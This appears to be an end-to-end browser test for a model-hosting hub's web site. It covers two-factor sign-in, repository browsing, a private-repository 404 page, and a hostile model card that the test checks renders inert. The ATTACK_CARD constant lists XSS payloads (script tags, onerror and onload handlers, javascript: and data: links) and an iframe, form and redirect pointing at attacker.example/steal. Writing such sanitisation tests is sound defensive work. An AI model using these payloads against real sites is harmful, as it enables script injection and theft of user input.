import { mkdirSync } from "node:fs";
import type { TotpEnrollment } from "@hub/api";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "../test-support/browser.js";
import { readJson, startHub, type TestHub } from "../test-support/hub-process.js";
import {
  commitFiles,
  screenshot,
  SCREENSHOTS,
  TotpCodes,
  watchedContext,
  WIDTHS,
} from "../test-support/web.js";

const ATTACK_CARD = `# Inert card

<script>alert("script")</script>
<img src="x" onerror="alert('onerror')">
<img src="https://attacker.example/pixel.png">
[a link](javascript:alert('link'))
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="https://attacker.example/frame"></iframe>
<form action="https://attacker.example/steal"><input name="q"><button>Go</button></form>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://attacker.example/">
<a href="data:text/html,<script>alert(1)</script>">data link</a>

Still readable.
`;

/**
 * The web site walked in a real Chromium against a real `hubd` process: signing in with two-factor,
 * reading a card, browsing files, the not-found page for what one may not see, and a card that attacks
 * the page, watched for dialogs, console errors and requests to any other origin.
 */
describe("the web site in a browser", () => {
  let hub: TestHub;
  let browser: Browser;
  let token: string;
  let password: string;
  /** The authenticator app, set up in beforeAll. */
  let codes: TotpCodes;
  const nextCode = () => codes.next();

  const api = async (pathname: string, json?: unknown, method = "POST") => {
    const response = await hub.request(pathname, { method, token, ...(json === undefined ? {} : { json }) });
    expect(response.status, `${pathname}: ${await response.clone().text()}`).toBeLessThan(300);
    return response;
  };
  const commit = (repo: string, files: Record<string, string>) => commitFiles(hub, token, repo, files);
  const watched = (width: number) => watchedContext(browser, hub, width);

  beforeAll(async () => {
    mkdirSync(SCREENSHOTS, { recursive: true });
    hub = await startHub();
    ({ password } = await hub.createUser("alice"));
    await hub.createUser("bob");
    token = await hub.createToken("alice");
    await hub.reauthenticate(token, password);
    const enrollment = await readJson<TotpEnrollment>(await api("/api/me/mfa/totp"));
    codes = new TotpCodes(enrollment.secret);
    hub.secrets.add(enrollment.secret);
    await api("/api/me/mfa/totp/confirm", { otp: await nextCode() });
    await api("/api/repos", { repo_id: "alice/gpt-tiny", repo_type: "model" });
    const card = [
      "---",
      "license: apache-2.0",
      "pipeline_tag: text-generation",
      "library_name: transformers",
      "language: [en, de]",
      "datasets: [alice/tiny-stories]",
      "tags: [text-generation, small]",
      "---",
      "# GPT tiny",
      "",
      "A very small model: **4 layers**, trained on short stories. Good for tests and demos.",
      "",
      "## Results",
      "",
      "| Benchmark | Score |",
      "| --------- | ----- |",
      "| HellaSwag | 31.2  |",
      "| ARC-easy  | 42.7  |",
      "",
      "## Use it",
      "",
      "```python",
      "from transformers import pipeline",
      "",
      'generate = pipeline("text-generation", model="alice/gpt-tiny")',
      'print(generate("Once upon a time")[0]["generated_text"])',
      "```",
      "",
    ].join("\n");
    expect(
      (await commit("alice/gpt-tiny", { "README.md": card, "src/train.py": "print('hi')\n" })).status,
    ).toBe(200);
    await api("/api/repos", { repo_id: "alice/hidden", repo_type: "model", private: true });
    await api("/api/repos", { repo_id: "alice/attack", repo_type: "model" });
    expect((await commit("alice/attack", { "README.md": ATTACK_CARD })).status).toBe(200);
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await hub?.stop();
  });

  it.each(WIDTHS)("signs in with two-factor and browses a repository at %i pixels", async (width) => {
    const { context, problems } = await watched(width);
    const page = await context.newPage();
    await page.goto(`${hub.url}/`);
    await screenshot(page, "home");
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Sign in" }).click();
    await page.getByLabel("User name or email").fill("alice");
    await page.getByLabel("Password").fill(password);
    await page.getByLabel(/Two-factor code/).fill(await nextCode());
    await screenshot(page, "login");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => page.getByRole("link", { name: "alice", exact: true }).count()).toBe(1);

    await page.getByRole("link", { name: "alice/gpt-tiny" }).first().click();
    await page.getByRole("heading", { name: "GPT tiny" }).waitFor();
    expect(await page.locator('[data-field="license"]').textContent()).toBe("apache-2.0");
    await screenshot(page, "repository");

    await page.getByRole("link", { name: "Files and versions" }).click();
    await page.getByRole("link", { name: "src/" }).click();
    await page.getByRole("link", { name: "train.py" }).click();
    await page.locator("#L1").waitFor();
    expect(await page.locator("#L1 .line").textContent()).toBe("print('hi')");
    await screenshot(page, "file");

    await page.getByRole("link", { name: "History" }).click();
    await page.getByRole("link", { name: "Add files" }).waitFor();
    await screenshot(page, "history");

    await page.goto(`${hub.url}/models`);
    expect(await page.getByRole("link", { name: "alice/hidden" }).count()).toBe(1);
    await screenshot(page, "models");
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Sign in" }).waitFor();
    expect(problems).toEqual([]);
    await context.close();
  });

  it("shows the not-found page to a visitor who may not see a private repository", async () => {
    const { context, problems } = await watched(1440);
    const page = await context.newPage();
    const response = await page.goto(`${hub.url}/alice/hidden`);
    expect(response?.status()).toBe(404);
    await page.getByRole("heading", { name: "This page does not exist, or you may not see it" }).waitFor();
    await screenshot(page, "not-found");
    // The page's own resources loaded; the 404 document itself is the only failed request.
    expect(problems.filter((p) => !p.includes("404"))).toEqual([]);
    await context.close();
  });

  it("renders a card that attacks the page inert: no dialog, no console error, no request elsewhere", async () => {
    const { context, problems } = await watched(1440);
    const page = await context.newPage();
    await page.goto(`${hub.url}/alice/attack`);
    await page.getByText("Still readable.").waitFor();
    expect(await page.locator('main a[href^="javascript:" i], main a[href^="data:" i]').count()).toBe(0);
    await page.getByText("a link").click();
    await page.waitForTimeout(300);
    await screenshot(page, "attack-card");
    expect(await page.locator("main iframe, main form, main svg, main script, main style").count()).toBe(0);
    expect(await page.title()).toBe("alice/attack · Hub");
    // The one failure the page may show: `<img src="x">`, resolved inside the repository, is not there.
    expect(problems.filter((p) => !p.includes("status of 404"))).toEqual([]);
    await context.close();
  });
});
